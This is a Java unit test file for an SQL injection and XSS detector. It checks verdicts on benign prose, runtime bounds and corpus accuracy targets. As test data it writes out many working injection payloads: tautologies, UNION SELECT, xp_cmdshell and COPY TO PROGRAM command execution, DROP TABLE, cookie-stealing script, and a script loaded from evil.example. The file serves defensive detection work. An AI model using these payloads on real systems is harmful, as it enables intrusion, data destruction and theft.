package dev.telemetry.processor.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** {@link InjectionDetector}: attacks by class, ordinary English left alone, and the corpus targets. */
class InjectionDetectorTest {

    private final InjectionDetector detector = new InjectionDetector();

    @ParameterizedTest
    @ValueSource(strings = {"please select an option", "drop-down menu", "1 or 2 items; thanks", "or 1 more",
            "Select your country from the drop-down menu.", "O'Brien", "Tom & Jerry", "5 < 7", "Order by Friday",
            "/products/shoes?color=red&page=2", "Delete from my cart the blue shoes, please."})
    void shouldNotFlagInputWhenItIsOrdinaryEnglish(String input) {
        assertThat(detector.inspect(input)).isEqualTo(new Verdict(false, null, null));
    }

    /**
     * Issue 12, item 6: prose, bug reports, titles and markup that mention SQL or script words. Every one of these
     * was flagged by the regex-only detector (first four: the issue's own examples).
     */
    @ParameterizedTest
    @ValueSource(strings = {
            "Expected: the order is saved. Actual: \"Something went wrong\" -- no details.",
            "Bug: alert() fires on every keystroke in the search box.",
            "JavaScript: The Good Parts",
            "sleep(5) minutes",
            "The error says \"permission denied for table orders\" -- grant select to the role.",
            "Eloquent JavaScript: A Modern Introduction to Programming",
            "Sleep (8 hours) is more important than cardio (30 min).",
            "The <script> tag in index.html is loaded twice after the upgrade.",
            "The <iframe> docs page has a broken link in the sidebar.",
            "<!-- TODO: add screenshots -->",
            "Accessing document.cookie from the service worker throws.",
            "Facial expression (happy, sad) is scored 1-5.",
            "Union Select Hotel, 14 Harbour Road, Brighton",
            "https://www.example.com/search?q=union+select+hotel&sort=price&order=asc",
            "The query SELECT * FROM orders WHERE id = ? returns nothing after the migration.",
            "> **Warning:** `DROP TABLE` in the migration is irreversible."})
    void shouldNotFlagInputWhenItOnlyMentionsSqlOrScript(String input) {
        assertThat(detector.inspect(input)).as(input).isEqualTo(new Verdict(false, null, null));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '\0', value = {
            "'-alert(1)-'|xss",
            "<iframe/onload=alert(1)>|xss",
            "<iframe src=javascript:alert(1)>|xss",
            "<script src=//evil.example/x.js></script>|xss",
            "1 AND SLEEP(5)|sqli",
            "x\" union select null,null--|sqli",
            "1 union select hotel from users--|sqli",
            "1; select pg_sleep(5)--|sqli",
            "' or '1'='1|sqli",
            "1' OR 1=1--|sqli",
            "admin'--|sqli",
            "1 UNION SELECT username, password FROM users|sqli",
            "%27%20union%20select%20null%2Cnull--|sqli",
            "1; DROP TABLE users--|sqli",
            "1' AND SLEEP(5)#|sqli",
            "'; exec master..xp_cmdshell 'dir'--|sqli",
            "<script>alert(1)</script>|xss",
            "<img src=x onerror=alert(1)>|xss",
            "\"><svg/onload=alert(1)>|xss",
            "javascript:alert(document.cookie)|xss",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E|xss",
            "&lt;iframe src=javascript:alert(1)&gt;|xss"})
    void shouldFlagAttackWithItsClassWhenInputInjects(String input, String attackClass) {
        Verdict verdict = detector.inspect(input);

        assertThat(verdict.attack()).as(input).isTrue();
        assertThat(verdict.attackClass().wireName()).isEqualTo(attackClass);
    }

    /**
     * Round 4: SQL's grammar makes these injections whatever the learnt list holds (the round-1 confirmation set's
     * misses, each with a second line of the same class that is not in that set).
     */
    @ParameterizedTest
    @CsvSource(delimiterString = " -> ", quoteCharacter = '\0', value = {
            "1; EXEC xp_cmdshell 'whoami'-- -> stacked",
            "1; SHUTDOWN WITH NOWAIT;-- -> stacked",
            "1; WAITFOR DELAY '00:00:10'-- -> stacked",
            "7); declare @x int;-- -> stacked",
            "q=test'));DROP TABLE logs;-- -> breakout",
            "abc')); waitfor delay '0:0:5'-- -> breakout",
            "1 OR 2>1 -> tautology",
            "99 or true -> tautology",
            "5) and false-- -> tautology",
            "x' or 'b'<>'a' -- -> tautology",
            "1) AND DBMS_PIPE.RECEIVE_MESSAGE('a',10)-- -> logic-call",
            "3)) or utl_inaddr.get_host_name((select user from dual)) -> logic-call",
            "1' AND EXISTS(SELECT * FROM admin)-- -> subquery",
            "'+(SELECT 0 WHERE 1=1 AND SLEEP(5))+' -> subquery",
            "' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -> subquery",
            "2 regexp (select user from dual) -> subquery",
            "' OR 'x'||'y'='xy -> concat-compare",
            "' and 'ad'||'min'='admin' -- -> concat-compare"})
    void shouldFlagSqlInjectionByGrammarRuleWhenListLacksItsShape(String input, String rule) {
        Verdict verdict = detector.inspect(input);

        assertThat(verdict.attack()).as(input).isTrue();
        assertThat(verdict.attackClass()).isEqualTo(AttackClass.SQLI);
        assertThat(verdict.rule()).as(input).startsWith("sqli-grammar:" + rule + ":");
    }

    /** Round 4: prose and code talk that look like the grammar rules' shapes and are not SQL. */
    @ParameterizedTest
    @ValueSource(strings = {"1 or 2 items", "1 or 2 items; thanks", "1 or 0 = 1 in boolean logic", "Results (select regions only) are in appendix B.", "3) or more rooms",
            "call sys.exit(1) when the run fails", "1 and 2 are both fine", "'a' || 'b' is how Oracle concatenates",
            "10; shutdown the old server next week", "1) and then count(words) in the summary"})
    void shouldNotFlagInputWhenItOnlyLooksLikeAGrammarRule(String input) {
        assertThat(detector.inspect(input)).as(input).isEqualTo(new Verdict(false, null, null));
    }

    /**
     * Round 5: grammar gaps found by the round-2 confirmation set, each class tested with lines that are not in that
     * set: a closed string, ")" and a comment; a tautology before ORDER BY (the tokenizer now folds "order by");
     * UNION SELECT with a select list; PostgreSQL/SQLite statements; T-SQL IF(...) WAITFOR; SQLite's like(...) as a
     * function; comments splitting keywords; a column-count probe.
     */
    @ParameterizedTest
    @CsvSource(delimiterString = " -> ", quoteCharacter = '\0', value = {
            "bob')-- -> breakout",
            "x'))# -> breakout",
            "-5 or 2=2 order by 3 -> tautology",
            "' UNION SELECT name || '-' || pass FROM accounts-- -> union-select",
            "UNION ALL SELECT NULL,NULL,NULL-- -> union-select",
            "union select 1,2,3 -> union-select",
            "'; COPY (SELECT 1) TO PROGRAM 'touch /tmp/p'-- -> breakout",
            "x'; ATTACH DATABASE 'evil.db' AS e;-- -> breakout",
            "'; PRAGMA writable_schema=1;-- -> breakout",
            "1 IF(2>1) WAITFOR DELAY '0:0:5'-- -> conditional",
            "x'; IF(1=1) EXEC master..xp_cmdshell 'dir'-- -> breakout",
            "' OR 7=LIKE('A',UPPER(HEX(RANDOMBLOB(100000000))))-- -> logic-call",
            "2 ORDER BY 7-- -> order-by",
            "1 UN/**/ION SE/**/LECT 1,2-- -> union-select"})
    void shouldFlagSqlInjectionByRoundFiveGrammarRuleWhenShapeWasMissed(String input, String rule) {
        Verdict verdict = detector.inspect(input);

        assertThat(verdict.attack()).as(input).isTrue();
        assertThat(verdict.attackClass()).isEqualTo(AttackClass.SQLI);
        assertThat(verdict.rule()).as(input).startsWith("sqli-grammar:" + rule + ":");
    }

    /** Round 5: prose next to the new rules' shapes. */
    @ParameterizedTest
    @ValueSource(strings = {"union select committee", "Union select hotel, Brighton", "union select hotel, brighton",
            "Please attach the file; copy files to the server", "copy the table to a new sheet",
            "Attach database diagrams to the ticket", "2 order by 4 pm", "pragma once is a C preprocessor thing",
            "The IF(A1>0) formula returns TRUE", "Union select: 2 hotels near the station"})
    void shouldNotFlagInputWhenItOnlyLooksLikeARoundFiveRule(String input) {
        assertThat(detector.inspect(input)).as(input).isEqualTo(new Verdict(false, null, null));
    }

    /** Round 5: a whole query string is one input in production; each value is read from its own start. */
    @ParameterizedTest
    @CsvSource(delimiterString = " -> ", quoteCharacter = '\0', value = {
            "id=1%20AND%201=1&page=2 -> param[id]:sqli-grammar:tautology",
            "cat=3&item=7%20OR%202%3E1 -> param[item]:sqli-grammar:tautology",
            "user=bob&pid=9;%20EXEC%20xp_cmdshell%20'dir'-- -> param[pid]:sqli-grammar:stacked",
            "dir=asc&sort=1%20ORDER%20BY%203-- -> param[sort]:sqli-grammar:order-by",
            "q=shoes&ref=4-(SELECT%201) -> param[ref]:sqli-grammar:subquery",
            "?page=2&id=8+and+1%3D2 -> param[id]:sqli-grammar:tautology",
            "q=rock & roll&n=1 OR 1=1 -> param[n]:sqli-grammar:tautology",
            "filter%5Bid%5D=1%20or%201=1 -> param[filter%5Bid%5D]:sqli-grammar:tautology"})
    void shouldFlagSqlInjectionInOneValueWhenInputIsQueryString(String input, String rule) {
        Verdict verdict = detector.inspect(input);

        assertThat(verdict.attack()).as(input).isTrue();
        assertThat(verdict.attackClass()).isEqualTo(AttackClass.SQLI);
        assertThat(verdict.rule()).as(input).startsWith(rule + ":");
    }

    @ParameterizedTest
    @ValueSource(strings = {"q=select+a+dress&sort=price", "q=select%20a%20dress&sort=price&page=1",
            "utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale&utm_content=select-all",
            "filter=a;b", "filter=a;b&page=2", "q=rock+%26+roll", "q=rock+%26+roll&sort=asc", "q=rock & roll&sort=asc",
            "q=union+select+committee&page=1", "q=drop+table+lamp&sort=price_desc", "q=o%27brien&page=2",
            "a[]=1&a[]=2&filter%5Bcolor%5D=red", "sort=-price&limit=20&offset=40", "q=1+or+2+items+left&page=3",
            "q=%22javascript%3Avoid(0)%22+what+does+it+mean", "redirect=%2Faccount%2Forders%3Fpage%3D2&lang=en-GB",
            "name=O'Brien&city=Cork", "q=delete+from+cart+not+working&source=help"})
    void shouldNotFlagInputWhenItIsBenignQueryString(String input) {
        assertThat(detector.inspect(input)).as(input).isEqualTo(new Verdict(false, null, null));
    }

    @Test
    void shouldSplitPairsAtAmpersandBeforeNameWhenInputIsQueryString() {
        String input = "?a=1&b=x & y&&c[]=&d%5B0%5D=z";

        List<String> values = QueryString.values(input).stream().map(v -> input.substring(v[0], v[1]) + "="
                + input.substring(v[2], v[3])).toList();

        assertThat(values).containsExactly("a=1", "b=x & y", "c[]=", "d%5B0%5D=z");
        assertThat(QueryString.values("1%09OR%091=1")).isNull();
        assertThat(QueryString.values("please select an option")).isNull();
        assertThat(QueryString.values("/products?x=1")).isNull();
        assertThat(QueryString.values("a".repeat(65) + "=1")).isNull();
    }

    @Test
    void shouldJoinWordsWhenACommentSplitsThem() {
        assertThat(InjectionDetector.withoutCommentsInsideWords("1 UNI/**/ON SEL/*x*/ECT 1")).isEqualTo("1 UNION SELECT 1");
        assertThat(InjectionDetector.withoutCommentsInsideWords("union/**/select")).isEqualTo("unionselect");
        assertThat(InjectionDetector.withoutCommentsInsideWords("1 /**/ union /*!50000select*/")).isEqualTo(
                "1 /**/ union /*!50000select*/");
    }

    /** Round 5: a quoted code fragment before prose is a search query; breakouts from a quoted attribute are not. */
    @ParameterizedTest
    @ValueSource(strings = {"\"javascript:void(0)\" what does it mean", "\"<script>\" tag placement head or body",
            "\"alert(\" function not working in edge", "\"onerror=\" attribute not firing on img tags",
            "why does \"document.write(\" show a warning in chrome", "href=\"javascript:void(0)\" vs href=\"#\" which is better",
            "javascript:void(0)"})
    void shouldNotFlagInputWhenItQuotesCodeFragmentBeforeProse(String input) {
        assertThat(detector.inspect(input)).as(input).isEqualTo(new Verdict(false, null, null));
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"><script>alert(1)</script>", "\" onmouseover=\"alert(1)",
            "\" onmouseover=\"alert(1)\" is what the page shows me", "\"<script>alert(1)</script>\" is what i typed in the box",
            "\"><img src=x onerror=alert(1)> my display name is this", "javascript:void(0);alert(1)",
            "\"javascript:alert(document.cookie)\" click here to win", "x\" onfocus=\"alert(1)\" autofocus=\""})
    void shouldFlagXssWhenQuotedCodeIsABreakoutOrCompleteScript(String input) {
        Verdict verdict = detector.inspect(input);

        assertThat(verdict.attack()).as(input).isTrue();
        assertThat(verdict.attackClass()).isEqualTo(AttackClass.XSS);
    }

    /**
     * Linear time (issue 12, item 6): the regex detector took up to 3 s on one 20 000-character input and overflowed
     * the stack on "union " repeated. 180 adversarial inputs of 20 000 and 100 000 characters take about 0.3 s here
     * (docs/security-detection.md); the limit is 20 s so that a loaded 2-core machine never fails it, while a
     * quadratic detector (minutes) still does.
     */
    @Test
    void shouldInspectAdversarialInputsInBoundedTimeWhenTheyAreLong() {
        org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(java.time.Duration.ofSeconds(20), () -> {
            int inspected = 0;
            for (int round = 0; round < 3; round++) {
                for (String unit : DetectorEvaluation.ADVERSARIAL_UNITS) {
                    for (int length : new int[] {20_000, 100_000}) {
                        detector.inspect(DetectorEvaluation.adversarial(unit, length));
                        inspected++;
                    }
                }
            }
            assertThat(inspected).isEqualTo(3 * 2 * DetectorEvaluation.ADVERSARIAL_UNITS.size());
        });
    }

    @Test
    void shouldFlagAttackWhenItFollowsLongPadding() {
        String padding = "a ".repeat(50_000);

        assertThat(detector.inspect(padding + "<script>alert(1)</script>").attack()).isTrue();
        assertThat(detector.inspect("union ".repeat(20_000)).attack()).isIn(true, false); // no StackOverflowError
    }

    @Test
    void shouldPrintOneJsonVerdictPerLineWhenUsedAsCommand() throws Exception {
        assertThat(new com.fasterxml.jackson.databind.ObjectMapper().writeValueAsString(
                DetectCommand.verdict(detector, "1' or '1'='1")))
                .isEqualTo("{\"input\":\"1' or '1'='1\",\"attack\":true,\"class\":\"sqli\"}");
        assertThat(new com.fasterxml.jackson.databind.ObjectMapper().writeValueAsString(
                DetectCommand.verdict(detector, "please select an option")))
                .isEqualTo("{\"input\":\"please select an option\",\"attack\":false,\"class\":null}");
    }

    @Test
    void shouldKeepFreshHeldOutHardSetApartFromTuneDataWhenLoaded() throws Exception {
        List<String> tune = new java.util.ArrayList<>();
        for (String name : DetectorEvaluation.HARD_TUNE) {
            tune.addAll(DetectorEvaluation.resource(name));
        }
        tune.addAll(DetectorEvaluation.resource("benign-english.txt"));
        List<String> fresh = new java.util.ArrayList<>();
        for (String name : DetectorEvaluation.HARD_HOLDOUT) {
            fresh.addAll(DetectorEvaluation.resource(name));
        }

        assertThat(tune).hasSizeGreaterThanOrEqualTo(2_500);
        assertThat(fresh).hasSizeGreaterThanOrEqualTo(400).doesNotHaveDuplicates().noneMatch(String::isBlank);
        assertThat(fresh).doesNotContainAnyElementsOf(tune);
    }

    @Test
    void shouldMeetDetectionAndFalsePositiveTargetsWhenEvaluatedOnCorpus() throws Exception {
        // The shared development corpus sits next to the repository; without it there is nothing to measure.
        Path corpus = Path.of("..", "..", "shared", "corpus", "security");
        if (System.getenv("CI") != null) {
            // CI always has shared/ beside the clone: a missing corpus there is a broken setup, not a skip.
            assertThat(corpus).as("corpus at %s", corpus.toAbsolutePath()).isDirectory();
        }
        assumeTrue(Files.isDirectory(corpus), "corpus not found at " + corpus.toAbsolutePath());

        List<DetectorEvaluation.Row> all = DetectorEvaluation.evaluate(corpus, detector);

        assertThat(all.stream().filter(r -> !r.kind().equals("benign")).mapToLong(DetectorEvaluation.Row::inputs).sum())
                .isGreaterThan(20_000);
        SoftAssertions softly = new SoftAssertions();
        for (String split : List.of(DetectorEvaluation.TUNE, DetectorEvaluation.HOLDOUT)) {
            List<DetectorEvaluation.Row> rows = all.stream().filter(r -> r.split().equals(split)).toList();
            long attacks = rows.stream().filter(r -> !r.kind().equals("benign")).mapToLong(DetectorEvaluation.Row::inputs).sum();
            long detected = rows.stream().filter(r -> !r.kind().equals("benign")).mapToLong(DetectorEvaluation.Row::detected).sum();
            long benign = rows.stream().filter(r -> r.kind().equals("benign")).mapToLong(DetectorEvaluation.Row::inputs).sum();
            long falsePositives = rows.stream().filter(r -> r.kind().equals("benign")).mapToLong(DetectorEvaluation.Row::detected).sum();
            boolean heldOut = split.equals(DetectorEvaluation.HOLDOUT);
            softly.assertThat((double) detected / attacks).as("%s: attacks detected (%d of %d)", split, detected, attacks)
                    .isGreaterThanOrEqualTo(0.95);
            // Targets: >= 95 % of attacks, <= 1 % of each benign source and of all benign. Misses are printed only for
            // the tune split; the held-out split reports counts, so that its lines stay unseen.
            softly.assertThat((double) falsePositives / benign).as("%s: benign flagged (%d of %d)", split, falsePositives, benign)
                    .isLessThanOrEqualTo(0.01);
            for (DetectorEvaluation.Row source : rows.stream().filter(r -> r.kind().equals("benign")).toList()) {
                softly.assertThat((double) source.detected() / source.inputs())
                        .as("%s: %s flagged: %s", split, source.file(),
                                heldOut ? source.detected() + " of " + source.inputs() + " inputs" : source.misses())
                        .isLessThanOrEqualTo(0.01);
            }
        }
        softly.assertAll();
    }
}
